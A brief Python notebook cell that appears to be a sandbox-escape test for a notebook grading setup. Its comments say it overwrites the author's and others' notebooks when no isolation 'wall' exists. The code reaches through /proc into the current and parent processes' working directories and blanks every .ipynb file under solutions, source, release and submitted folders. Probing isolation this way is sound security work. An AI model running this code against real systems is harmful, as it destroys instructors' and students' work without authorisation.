# The author's and the others' notebooks are overwritten
# wall: without a wall they can be written
# costs: nothing
# %% own
import os
from pathlib import Path

for pid in ("self", os.getppid()):
    for name in ("solutions", "source", "notebooks", "release", "submitted"):
        for file in Path(f"/proc/{pid}/cwd/{name}").rglob("*.ipynb"):
            try:
                file.write_text("{}")
            except OSError as error:
                print(error.strerror)
